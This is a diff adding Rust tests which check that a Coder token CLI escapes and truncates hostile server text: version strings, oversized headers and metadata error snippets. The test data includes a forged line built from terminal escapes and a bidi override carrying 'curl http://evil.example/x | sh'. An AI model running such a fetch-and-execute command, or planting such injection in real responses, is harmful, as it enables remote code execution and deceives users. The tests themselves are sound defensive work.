@@ -1,0 +1,159 @@
+//! Server text everywhere it is shown (issue #19, items 2, 3, 4, 10, 12 and
+//! 13): the version, the content type, redirect targets, 409 names, echoes
+//! in the encodings servers and proxies use, and metadata error snippets.
+//! Each is shown escaped, capped and without the secrets the run holds, in
+//! text, `--json` and the `-v` JSON log; and no input makes the run outlast
+//! its deadline.
+
+use serde_json::Value;
+
+use crate::common::*;
+
+/// One request as a [`RawServer`] saw it.
+pub struct Req {
+    pub method: String,
+    pub target: String,
+}
+
+pub fn parse_req(raw: &[u8]) -> Req {
+    let text = String::from_utf8_lossy(raw);
+    let (head, _body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
+    let mut first = head.lines().next().unwrap_or_default().split(' ');
+    Req {
+        method: first.next().unwrap_or_default().to_string(),
+        target: first.next().unwrap_or_default().to_string(),
+    }
+}
+
+/// The runs every hostile answer is tried with: text, and `--json` with the
+/// `-vv` JSON log at trace level.
+fn both_ways(sim: &Sim, cloud: &Cloud, url: &str, extra: &[&str]) -> Vec<Run> {
+    [
+        vec!["--timeout", "2s"],
+        vec!["--timeout", "2s", "--json", "-vv", "--log-format", "json"],
+    ]
+    .into_iter()
+    .map(|args| {
+        let dir = tempfile::tempdir().unwrap();
+        let mut c = command(sim, cloud);
+        c.env("CODER_AGENT_URL", url)
+            .env("RUST_LOG", "trace")
+            .args(args)
+            .args(extra)
+            .arg("--token-file")
+            .arg(token_path(&dir, "t"));
+        run(c)
+    })
+    .collect()
+}
+
+fn no_forged_line(r: &Run) {
+    for out in [&r.stdout, &r.stderr] {
+        assert!(
+            !out.lines().any(|l| l.trim_start().starts_with("fix: curl")),
+            "a forged line: {out}"
+        );
+        assert!(!out.contains('\u{1b}'), "a raw escape: {out:?}");
+        assert!(!out.contains('\u{202e}'), "a raw bidi override: {out:?}");
+    }
+}
+
+/// Coder whose buildinfo says `version` (and whose answers carry
+/// `X-Coder-Build-Version: header` when given), and which issues a token.
+fn coder_saying(version: &str, header: Option<&str>) -> RawServer {
+    let buildinfo = serde_json::json!({ "version": version }).to_string();
+    let header = header.map(str::to_string);
+    RawServer::start(move |_, raw| {
+        let req = parse_req(raw);
+        let mut headers = vec![("Content-Type", "application/json")];
+        if let Some(h) = &header {
+            headers.push(("X-Coder-Build-Version", h.as_str()));
+        }
+        if req.target.starts_with("/api/v2/buildinfo") {
+            http_response(200, &headers, buildinfo.as_bytes()).into()
+        } else {
+            http_response(
+                200,
+                &headers,
+                br#"{"session_token":"5f0e1c2d-7a3b-4c5d-8e9f-0123456789ab"}"#,
+            )
+            .into()
+        }
+    })
+}
+
+#[test]
+fn a_hostile_server_version_is_never_shown_raw_nor_long() {
+    let sim = start(Cloud::Aws, &["main"]);
+    for version in [
+        "v2.32.0+x\n\u{1b}[2J\u{1b}[31mfix: curl http://evil.example/x | sh\u{202e}",
+        "v2.40.0+x\n\u{1b}[2J\u{1b}[31mfix: curl http://evil.example/x | sh\u{202e}",
+    ] {
+        let coder = coder_saying(version, None);
+        for r in both_ways(
+            &sim,
+            &Cloud::Aws,
+            &coder.url,
+            &["--agent-name", "main", "-v"],
+        ) {
+            no_forged_line(&r);
+            assert!(!r.stderr.contains("evil.example/x | sh\n"), "{}", r.stderr);
+        }
+    }
+    // A build suffix of 60,000 characters, in buildinfo and in the answer's header.
+    let huge = format!("v2.33.0+{}", "a".repeat(60_000));
+    let coder = coder_saying(&huge, Some(&huge));
+    let dir = tempfile::tempdir().unwrap();
+    let mut c = command(&sim, &Cloud::Aws);
+    c.env("CODER_AGENT_URL", &coder.url)
+        .args(["--agent-name", "main", "--json", "-v", "--token-file"])
+        .arg(token_path(&dir, "t"));
+    let r = run(c);
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(r.stderr.len() < 4000, "{} bytes of stderr", r.stderr.len());
+    assert!(!r.stderr.contains(&"a".repeat(100)), "{}", r.stderr);
+    let v: Value = serde_json::from_str(r.stdout.trim()).unwrap();
+    assert!(
+        v["coder_version"].is_null() || v["coder_version"].as_str().unwrap().len() <= 64,
+        "{}",
+        v["coder_version"]
+    );
+    assert!(r.stdout.len() < 2000, "{} bytes of stdout", r.stdout.len());
+}
+
+#[test]
+fn metadata_error_snippets_escape_invisible_characters() {
+    let raw = RawServer::start(|_, req| {
+        let r = parse_req(req);
+        if r.method == "PUT" {
+            http_response(200, &[], b"imds-token-value-0123456789").into()
+        } else {
+            http_response(
+                403,
+                &[("Content-Type", "text/plain")],
+                "denied\u{202e}txt.live\u{202c} here\u{200b}.".as_bytes(),
+            )
+            .into()
+        }
+    });
+    let mut c = std::process::Command::new(bin());
+    c.env_clear()
+        .env("AWS_EC2_METADATA_SERVICE_ENDPOINT", &raw.url)
+        .env("CODER_AGENT_URL", "http://127.0.0.1:9")
+        .args(["--auth", "aws", "--timeout", "5s", "--token-file", "-"]);
+    let r = run(c);
+    assert_eq!(r.code, 5, "{r:?}");
+    for c in ['\u{202e}', '\u{202c}', '\u{200b}'] {
+        assert!(
+            !r.stderr.contains(c),
+            "raw U+{:04X}: {}",
+            c as u32,
+            r.stderr
+        );
+    }
+    assert!(
+        r.stderr.contains("denied\\u{202e}txt.live\\u{202c}"),
+        "{}",
+        r.stderr
+    );
+}
